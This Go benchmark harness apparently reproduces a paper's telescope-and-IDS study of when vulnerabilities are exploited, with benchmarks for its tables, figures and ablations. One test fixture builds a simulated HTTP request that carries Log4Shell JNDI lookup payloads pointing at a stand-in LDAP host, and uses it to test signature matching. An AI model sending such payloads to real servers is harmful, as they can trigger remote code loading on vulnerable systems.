// Benchmark harness: one benchmark per table and figure of the paper's
// evaluation, plus the ablation benches DESIGN.md calls out. Each benchmark
// regenerates its artifact from a full study run and reports the headline
// values as benchmark metrics, so
//
//	go test -bench=. -benchmem
//
// both times the pipeline and prints the reproduced numbers next to the
// paper's. Benchmarks share a study per configuration via sync.OnceValues.
package repro

import (
	"sync"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/datasets"
	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/scanner"
	"repro/internal/tcpasm"
	"repro/internal/telescope"
	"repro/wayback"
)

// benchScale divides the paper's 115 k-event volume for the shared study.
const benchScale = 20

var sharedStudy = sync.OnceValues(func() (*wayback.Results, error) {
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: benchScale})
	if err != nil {
		return nil, err
	}
	return study.Run()
})

func study(b *testing.B) *wayback.Results {
	b.Helper()
	res, err := sharedStudy()
	if err != nil {
		b.Fatal(err)
	}
	return res
}

// BenchmarkStudyPipeline times the full pipeline end to end: workload
// generation, telescope capture, IDS attribution, lifecycle assembly.
func BenchmarkStudyPipeline(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s, err := wayback.NewStudy(wayback.Config{Seed: int64(i), Scale: 100})
		if err != nil {
			b.Fatal(err)
		}
		res, err := s.Run()
		if err != nil {
			b.Fatal(err)
		}
		if res.Stats.DistinctCVEs != 63 {
			b.Fatalf("distinct CVEs = %d", res.Stats.DistinctCVEs)
		}
	}
}

// BenchmarkStudyPipelinePcap times the full packet path: the streamed
// capture through decode, reassembly and matching.
func BenchmarkStudyPipelinePcap(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s, err := wayback.NewStudy(wayback.Config{Seed: int64(i), Scale: 200, Streaming: true})
		if err != nil {
			b.Fatal(err)
		}
		if _, err := s.Run(); err != nil {
			b.Fatal(err)
		}
	}
}

// ---- Tables ----

func BenchmarkTable3(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res := study(b)
		if len(res.Table3()) == 0 {
			b.Fatal("empty table 3")
		}
	}
}

func BenchmarkTable4(b *testing.B) {
	res := study(b)
	var mean float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows := res.Table4Results()
		mean = core.MeanSkill(rows)
	}
	b.ReportMetric(mean, "mean-skill(paper:0.37)")
}

func BenchmarkTable5(b *testing.B) {
	res := study(b)
	var da float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, r := range res.Table5Results() {
			if r.Pair.String() == "D < A" {
				da = r.Satisfied
			}
		}
	}
	b.ReportMetric(da, "per-event-D<A(paper:0.95)")
}

func BenchmarkTable6(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if got := len(res.Table6().Rows); got != 15 {
			b.Fatalf("table 6 rows = %d", got)
		}
	}
}

// ---- Figures ----

func BenchmarkFigure1(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if res.Figure1().Total() != 63 {
			b.Fatal("figure 1 total")
		}
	}
}

func BenchmarkFigure2(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		series := res.Figure2()
		if len(series) != 3 {
			b.Fatal("figure 2 series")
		}
	}
}

func BenchmarkFigure3(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if res.Figure3().Total() == 0 {
			b.Fatal("figure 3 empty")
		}
	}
}

func BenchmarkFigure4(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if res.Figure4().Total() == 0 {
			b.Fatal("figure 4 empty")
		}
	}
}

func BenchmarkFigure5(b *testing.B) {
	res := study(b)
	var da float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		figs := res.Figure5()
		da = figs[0].SatisfiedAtZero // A - D caption
	}
	b.ReportMetric(da, "P(D<A)(paper:0.56)")
}

func BenchmarkFigure6(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f := res.Figure6()
		if len(f.Mitigated) == 0 {
			b.Fatal("figure 6 empty")
		}
	}
}

func BenchmarkFigure7(b *testing.B) {
	res := study(b)
	var conc float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f := res.Figure7()
		conc = core.UnmitigatedConcentration(f, 30)
	}
	b.ReportMetric(conc, "unmit-30d-conc(paper:0.50)")
}

func BenchmarkFigure8(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if res.Figure8().CDF == nil {
			b.Fatal("figure 8 empty")
		}
	}
}

func BenchmarkFigure9(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if got := len(res.Figure9()); got != 5 {
			b.Fatalf("figure 9 groups = %d", got)
		}
	}
}

func BenchmarkFigure10(b *testing.B) {
	res := study(b)
	var rate float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cmp := res.KEVComparison()
		rate = cmp.KevPrePublicationRate
	}
	b.ReportMetric(rate, "KEV-P(A<P)(paper:0.18)")
}

func BenchmarkFigure11(b *testing.B) {
	res := study(b)
	var over30 float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cmp := res.KEVComparison()
		over30 = cmp.Over30DaysShare
	}
	b.ReportMetric(over30, "seen>30d-early(paper:0.50)")
}

func BenchmarkFigure12(b *testing.B) {
	res := study(b)
	var mitigated float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rep := core.CaseStudy(res.Events, "2022-26134")
		mitigated = rep.MitigatedShare
	}
	b.ReportMetric(mitigated, "confluence-mitigated(paper:0.996)")
}

func BenchmarkFigure13to18(b *testing.B) {
	res := study(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if got := len(res.Figures13to18()); got != 6 {
			b.Fatalf("appendix figures = %d", got)
		}
	}
}

// ---- Findings ----

func BenchmarkFinding7(b *testing.B) {
	res := study(b)
	var gain float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f := res.Finding7()
		gain = f.SkillImprovement
	}
	b.ReportMetric(gain, "skill-gain(paper:0.32)")
}

// ---- Ablations (DESIGN.md) ----

// BenchmarkAblationPrefilter compares the Aho–Corasick prefiltered engine
// against a full per-rule scan of every session.
func BenchmarkAblationPrefilter(b *testing.B) {
	rs, err := scanner.StudyRuleset()
	if err != nil {
		b.Fatal(err)
	}
	bps, err := scanner.Build(scanner.Config{Seed: 1, Scale: 200})
	if err != nil {
		b.Fatal(err)
	}
	tel := telescope.NewSim(telescope.SimConfig{Seed: 1})
	sessions := tel.Sessions(bps)
	for _, variant := range []struct {
		name string
		cfg  ids.Config
	}{
		{"prefilter", ids.Config{PortInsensitive: true}},
		{"naive", ids.Config{PortInsensitive: true, DisablePrefilter: true}},
	} {
		b.Run(variant.name, func(b *testing.B) {
			engine := ids.NewEngine(rs, variant.cfg)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				events := ids.MatchSessions(sessions, engine, nil, 1, nil)
				if len(events) == 0 {
					b.Fatal("no events")
				}
			}
		})
	}
}

// BenchmarkAblationPortInsensitive measures the recall cost of leaving rules
// port-constrained, the paper's Section 3.1 methodology point.
func BenchmarkAblationPortInsensitive(b *testing.B) {
	rs, err := scanner.StudyRuleset()
	if err != nil {
		b.Fatal(err)
	}
	bps, err := scanner.Build(scanner.Config{Seed: 1, Scale: 200})
	if err != nil {
		b.Fatal(err)
	}
	tel := telescope.NewSim(telescope.SimConfig{Seed: 1})
	sessions := tel.Sessions(bps)
	insEngine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})
	strictEngine := ids.NewEngine(rs, ids.Config{})
	var recall float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ins := ids.MatchSessions(sessions, insEngine, nil, 1, nil)
		strict := ids.MatchSessions(sessions, strictEngine, nil, 1, nil)
		recall = float64(len(strict)) / float64(len(ins))
	}
	b.ReportMetric(recall, "port-sensitive-recall")
}

// BenchmarkAblationEarliestRule compares the paper's earliest-published
// retention against naive first-match on multi-match sessions.
func BenchmarkAblationEarliestRule(b *testing.B) {
	rs, err := scanner.StudyRuleset()
	if err != nil {
		b.Fatal(err)
	}
	engine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})
	// A session matching two Log4Shell signatures from different waves:
	// jndi in both URI (group A) and cookie (group B).
	s := &tcpasm.Session{
		Client:     endpoint("203.0.113.9", 40000),
		Server:     endpoint("10.0.0.1", 8080),
		Start:      datasets.Log4ShellPublished.Add(48 * time.Hour),
		End:        datasets.Log4ShellPublished.Add(48*time.Hour + time.Second),
		ClientData: []byte("GET /?x=${jndi:ldap://e/a} HTTP/1.1\r\nHost: h\r\nCookie: s=${jndi:ldap://e/b}\r\n\r\n"),
		Complete:   true,
	}
	var sid int
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		m, ok := engine.Earliest(s)
		if !ok {
			b.Fatal("no match")
		}
		sid = m.SID
	}
	if sid != 58722 { // group A (earliest wave) must win over group B's 300057
		b.Fatalf("earliest-published returned sid %d", sid)
	}
}

// BenchmarkAblationLifetime sweeps the DSCOPE instance lifetime and reports
// the unique-IP coverage each achieves, the paper's 10-minute design choice.
func BenchmarkAblationLifetime(b *testing.B) {
	bps, err := scanner.Build(scanner.Config{Seed: 1, Scale: 100})
	if err != nil {
		b.Fatal(err)
	}
	for _, lifetime := range []time.Duration{time.Minute, 10 * time.Minute, time.Hour, 24 * time.Hour} {
		b.Run(lifetime.String(), func(b *testing.B) {
			var cov telescope.CoverageStats
			for i := 0; i < b.N; i++ {
				tel := telescope.NewSim(telescope.SimConfig{Seed: 1, InstanceLifetime: lifetime})
				cov = telescope.Coverage(tel.Sessions(bps))
			}
			b.ReportMetric(float64(cov.UniqueTelescopeIPs), "unique-ips")
		})
	}
}

// BenchmarkAblationBaseline compares the exact history enumeration against
// Monte-Carlo estimation of the luck model.
func BenchmarkAblationBaseline(b *testing.B) {
	m := core.HouseholderSpringMatrix()
	b.Run("exact", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			core.BaselineProbabilities(&m, core.ModelWalk)
		}
	})
	b.Run("montecarlo-100k", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			core.MonteCarloBaseline(&m, 100000, int64(i))
		}
	})
}

func endpoint(addr string, port uint16) packet.Endpoint {
	return packet.Endpoint{Addr: packet.MustAddr(addr), Port: port}
}

// BenchmarkAblationSignatureFilter measures the paper's Section 3.1
// filtering step: the full ruleset over legacy-heavy traffic vs the
// filtered study ruleset, reporting how much of the traffic the filter
// excludes from analysis.
func BenchmarkAblationSignatureFilter(b *testing.B) {
	var excluded float64
	for i := 0; i < b.N; i++ {
		filtered, err := wayback.NewStudy(wayback.Config{Seed: 2, Scale: 300, LegacyScans: 200})
		if err != nil {
			b.Fatal(err)
		}
		fres, err := filtered.Run()
		if err != nil {
			b.Fatal(err)
		}
		unfiltered, err := wayback.NewStudy(wayback.Config{Seed: 2, Scale: 300, LegacyScans: 200, UnfilteredRules: true})
		if err != nil {
			b.Fatal(err)
		}
		ures, err := unfiltered.Run()
		if err != nil {
			b.Fatal(err)
		}
		excluded = 1 - float64(fres.Stats.MatchedEvents)/float64(ures.Stats.MatchedEvents)
	}
	b.ReportMetric(excluded, "legacy-share-excluded")
}

// BenchmarkFullStudy runs the complete full-scale study (~115k exploit
// events) end to end — the headline "regenerate the paper" timing.
func BenchmarkFullStudy(b *testing.B) {
	b.ReportAllocs()
	var mean float64
	for i := 0; i < b.N; i++ {
		s, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: 1})
		if err != nil {
			b.Fatal(err)
		}
		res, err := s.Run()
		if err != nil {
			b.Fatal(err)
		}
		mean = res.MeanSkill()
	}
	b.ReportMetric(mean, "mean-skill(paper:0.37)")
}
